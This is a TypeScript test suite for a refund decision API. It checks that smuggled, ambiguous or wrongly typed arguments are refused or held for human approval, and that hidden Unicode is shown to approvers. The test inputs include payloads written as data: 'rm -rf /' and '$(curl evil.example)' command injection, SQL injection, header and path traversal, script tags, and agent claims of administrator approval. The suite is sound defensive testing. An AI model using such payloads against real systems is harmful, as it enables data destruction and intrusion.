/**
 * Arguments that say one thing and mean another: what two parsers would read differently is refused, what a rule expects
 * otherwise allows nothing, what an approver is asked for is kept to the byte, and what the eye cannot tell apart is
 * written out for it.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJson } from "../../decisions/plane/audit/canonical.ts";
import { inlineValue } from "../../modeler/src/ui/values.ts";
import { visibleText } from "../../modeler/src/ui/visible-text.ts";
import { call, startTestServer, type TestServer } from "../api/server.ts";
import { expectProblem } from "./problem-answers.ts";

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ withShipped: true });
});
afterAll(() => server?.close());

/** A refund that a person must decide on. */
function question(args: object, more: object = {}): object {
  return {
    action: { type: "issue_refund", target: "payments", operation: "pay", reversible: true, riskClass: "high" },
    args: { orderId: "ORD-1", amount: 1000, method: "cash", reason: "damaged", customerId: "C-17", ...args },
    facts: { "subject.accountTenureDays": 812, "subject.refundsLast12Months": 0, "subject.standing": "good" },
    agent: { id: "refund-agent", version: "1" },
    policies: [{ policyId: "refund" }],
    ...more,
  };
}

const ask = (body: unknown) => call(server, "POST", "/governance/v1/decisions", body);

/** Texts for one argument; with sixteen wrappings of each some two hundred cases. */
const smuggled: Readonly<Record<string, string>> = {
  "a right-to-left override": "invoice\u202Efdp.exe",
  "an isolate": "pay \u2066bob\u2069 alice",
  "a zero-width space": "admin\u200Bistrator",
  "a zero-width joiner": "pay\u200Dpal",
  "a byte order mark": "\uFEFFC-17",
  "a soft hyphen": "C\u00AD-17",
  "a tag character": "C-17\u{E0041}",
  "a Cyrillic a": "p\u0430ypal.com",
  "a Greek omicron": "g\u03BFogle",
  "full-width digits": "\uFF11\uFF10\uFF10\uFF10",
  "mathematical letters": "\u{1D429}\u{1D41A}\u{1D432}",
  "a no-break space": "C-17\u00A0",
};
const wrappings: readonly ((text: string) => unknown)[] = [
  (text) => text,
  (text) => `${text}\r\nX-Injected: 1`,
  (text) => `${text}'; drop table decision; --`,
  (text) => `${text}; rm -rf / #`,
  (text) => `$(curl evil.example)${text}`,
  (text) => `../../${text}`,
  (text) => `https://trusted.example@evil.example/${text}`,
  (text) => JSON.stringify({ amount: 1, note: text }),
  (text) => `{{secrets.PAYMENT_SERVICE}}${text}`,
  (text) => `=${text}`,
  (text) => [text],
  (text) => ({ amount: 1_000_000, $ref: text }),
  (text) => ({ constructor: { prototype: text } }),
  (text) => [[text, 1e21, -0, 0.1]],
  (text) => `${text}%00%0a`,
  (text) => `<script>${text}</script>`,
  (text) => `\${${text}}`,
];

describe("arguments that smuggle", () => {
  it.each(Object.entries(smuggled))(
    "are kept to the byte in the approval, and never carried out otherwise (S20): %s",
    async (_name, text) => {
      expect(Object.keys(smuggled).length * wrappings.length).toBeGreaterThanOrEqual(200);
      for (const wrap of wrappings) {
        const note = wrap(text);
        const { status, json, text: said } = await ask(question({ note }));
        expect([200, 201], said).toContain(status);
        expect(json.determination, JSON.stringify(note)).toBe("REQUIRE_APPROVAL");
        const approval = await call(server, "GET", `/governance/v1/approvals/${json.approval.approvalId}`);
        expect(canonicalJson(approval.json.args.note)).toBe(canonicalJson(note));
        expect(approval.json.args.amount).toBe(1000);
        expect(json.permit ?? null).toBeNull();
      }
    },
  );

  it("in two readings are refused: equal names, long integers, numbers out of range, broken texts (S20)", async () => {
    const text = JSON.stringify(question({}));
    const cases = [
      text.replace('"amount":1000', '"amount":10,"amount":1000000'),
      text.replace('"amount":1000', '"amount":10,"\\u0061mount":1000000'),
      text.replace('"args":', '"args":{"amount":1},"args":'),
      text.replace("1000", "9007199254740993"),
      text.replace("1000", "1e400"),
      text.replace("1000", "-1e999"),
      text.replace('"ORD-1"', '"\\ud800"'),
      text.replace('"ORD-1"', '"ORD-1\\u0000"'),
      text.replace("1000", "0x3e8"),
      text.replace("1000", "1_000"),
      text.replace("1000", "NaN"),
      text.replace("1000", "+1000"),
      text.replace("1000", "01000"),
    ];
    for (const body of cases) {
      const answer = await ask(body);
      expect(answer.status, body.slice(0, 200)).toBe(400);
      expectProblem(answer, body.slice(0, 200));
    }
  });

  it("beside the question are refused: no member is taken that nobody documented (S20)", async () => {
    for (const more of [
      { determination: "ALLOW" },
      { permit: "x" },
      { approved: true },
      { tenant: "other" },
      { Facts: {} },
      { "args.amount": 1 },
    ]) {
      const answer = await ask(question({}, more));
      expect(answer.status, JSON.stringify(more)).toBe(400);
      expect(answer.json.detail).toMatch(/only known members/);
    }
    const boasting = await ask(question({}, { agent: { id: "a", roles: ["administrator"], approved: true } }));
    expect(boasting.json.determination ?? "refused").toMatch(/REQUIRE_APPROVAL|refused/);
  });

  it("of another type than the rule expects allow nothing (S20)", async () => {
    for (const amount of ["1", [1], [[1]], { valueOf: 1 }, true, null, "", "1e0", "0x1", -1, -0.01, "١"]) {
      const { status, json } = await ask(question({ amount }));
      if (status >= 400) continue;
      expect(["DENY", "DEFER", "REQUIRE_APPROVAL"], JSON.stringify(amount)).toContain(json.determination);
    }
    for (const reason of [
      ["damaged"],
      { damaged: true },
      "Damaged",
      "damaged\u200B",
      "d\u0430maged",
      "damaged ",
      "DAMAGED",
      null,
    ]) {
      const { status, json } = await ask(question({ amount: 10, reason }));
      if (status >= 400) continue;
      expect(["DENY", "DEFER", "REQUIRE_APPROVAL"], JSON.stringify(reason)).toContain(json.determination);
    }
    expect((await ask(question({ amount: 10 }))).json.determination).toBe("ALLOW");
  });
});

describe("what an approver sees", () => {
  it.each(Object.entries(smuggled))("tells apart what only looks alike (S20): %s", (_name, text) => {
    expect(visibleText(text)).toMatch(/⟨U\+[0-9A-F]{4,6}⟩/);
    expect(inlineValue({ note: [text] })).toMatch(/⟨U\+[0-9A-F]{4,6}⟩/);
    expect(visibleText(text)).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\u00ad]/);
  });

  it("stays as it is where nothing hides: words of one script, accents, emoji, punctuation (S20)", () => {
    for (const text of [
      "Größe 12,50 €",
      "оплата заказа",
      "πληρωμή",
      "支払い",
      "naïve café",
      "a-b_c@d.example",
      "🙂 ok",
      "10 %",
      "مرحبا",
    ])
      expect(visibleText(text)).toBe(text);
    expect(visibleText("one\ntwo\tthree")).toBe("one two three");
  });
});
